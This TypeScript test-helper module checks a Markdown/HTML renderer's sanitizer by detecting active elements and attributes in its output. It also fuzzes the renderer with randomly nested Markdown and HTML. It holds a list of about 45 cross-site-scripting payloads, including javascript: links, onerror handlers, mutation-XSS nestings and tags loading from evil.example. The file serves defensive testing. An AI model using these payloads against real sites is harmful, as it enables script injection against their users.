import fc from "fast-check";
import type { Element, Nodes } from "hast";
import rehypeParse from "rehype-parse";
import { unified } from "unified";

/** Returns all elements of a piece of HTML. */
export function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const walk = (node: Nodes): void => {
    if (node.type === "element") found.push(node);
    if ("children" in node) for (const child of node.children) walk(child);
  };
  walk(unified().use(rehypeParse, { fragment: true }).parse(html));
  return found;
}

const forbidden = new Set([
  ...["script", "style", "form", "object", "embed", "svg", "math", "meta", "base", "link", "template"],
  ...["button", "select", "textarea", "applet", "frame", "frameset", "html", "head", "body", "title"],
]);

/** Returns what a browser would run, load or submit in this HTML: elements, and attributes with their element. */
export function activeParts(html: string): string[] {
  return elementsOf(html).flatMap(({ tagName, properties }) => {
    const bad: string[] = forbidden.has(tagName) ? [tagName] : [];
    for (const [name, value] of Object.entries(properties)) {
      if (/^on/i.test(name) || ["style", "srcDoc", "srcSet", "formAction", "action"].includes(name))
        bad.push(`${tagName} ${name}`);
      if (["href", "src", "poster", "cite"].includes(name)) {
        // A browser does not follow an address that it cannot parse.
        const protocol = URL.parse(String(value), "https://base.example/")?.protocol ?? "https:";
        const allowed = tagName === "a" ? ["http:", "https:", "mailto:", "tel:"] : ["http:", "https:"];
        if (!allowed.includes(protocol)) bad.push(`${tagName} ${name} ${protocol}`);
        if (["iframe", "video", "audio", "source"].includes(tagName) && !String(value).startsWith("https:"))
          bad.push(`${tagName} ${name} not https`);
      }
    }
    if (tagName === "iframe" && properties.sandbox === undefined) bad.push("iframe without sandbox");
    if (tagName === "a" && properties.href !== undefined && !String(properties.rel).includes("noopener"))
      bad.push("a without rel");
    return bad;
  });
}

/** Attempts to smuggle active content through the renderer. */
export const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="http://a.example/"></iframe>',
  '<iframe src="//a.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<video src="http://a.example/v.mp4" poster="javascript:alert(1)"></video>',
  '<video><source onerror="alert(1)" src="javascript:alert(1)"></video>',
  '<audio src="x" onerror=alert(1)></audio>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<template><script>alert(1)</script></template>",
  '<details open ontoggle="alert(1)">x</details>',
  "<p id=cookie name=cookie>x</p>",
  '<a href="https://a.example" target="_blank" rel="opener">x</a>',
  "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
  "```html\n<script>alert(1)</script>\n```",
  "<!--><script>alert(1)</script>-->",
  "<table><td background=javascript:alert(1)>x</table>",
  "[x]: javascript:alert(1)\n\n[x]",
];

/** Opening tokens of Markdown and HTML. Repeated, most of these nest or cause backtracking. */
const openings = [
  ...[
    "> ",
    ">",
    "- ",
    "* ",
    "1. ",
    "  - ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "\r\n",
    "  \n",
    "a",
    " ",
    "# ",
    "===\n",
    "---\n",
    "a\n=\n",
  ],
  ...[
    "*",
    "**a*",
    "_*",
    "_",
    "~~",
    "~a~~",
    "`",
    "``",
    "```\n",
    "[",
    "![",
    "](",
    "](<",
    "[]",
    "[a]",
    "[a]: /b '\n",
    "[^a]",
    "[^a]: ",
  ],
  ...[
    "|a",
    "|-",
    "|\n",
    "- [ ] ",
    "\\",
    "&amp;",
    "&#1;",
    "&a",
    "www.a.b ",
    "a@b.c ",
    "http://a.b/((",
    "<http://a",
    "\0",
    "\u{1F600}",
  ],
  ...[
    "<",
    "</",
    "<!--",
    "<?",
    "<![CDATA[",
    "<!A ",
    "<a href='",
    "<p ",
    "<p>",
    "</p>",
    "<div>",
    "<b id=1>",
    "<b id=2>",
    "<i>",
    "<a href=b>",
  ],
  ...[
    "<table>",
    "<tr><td>",
    "<select>",
    "<svg>",
    "<math>",
    "<mi>",
    "<template>",
    "<foreignObject>",
    "<desc>",
    "<title>",
    "<style>",
  ],
  ...[
    "<frameset>",
    "<plaintext>",
    "<form>",
    "<li>",
    "<ruby><rt>",
    "<noscript>",
    "<iframe>",
    "<video>",
    "<details>",
    "</template>",
    "</svg>",
  ],
];

/** Returns texts of up to a number of characters: Markdown and HTML, repeated and nested at random. */
export function hostileMarkdown(maxChars: number): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...openings) },
    { weight: 1, arbitrary: fc.constantFrom(...payloads) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 8 }) },
  );
  const unit = fc.array(piece, { minLength: 1, maxLength: 4 }).map((pieces) => pieces.join(""));
  const repeated = fc
    .tuple(unit, fc.integer({ min: 1, max: maxChars }))
    .map(([text, chars]) => text.repeat(Math.ceil(chars / Math.max(1, text.length))).slice(0, chars));
  return fc
    .array(fc.oneof(unit, repeated), { minLength: 1, maxLength: 6 })
    .map((parts) => parts.join("").slice(0, maxChars));
}
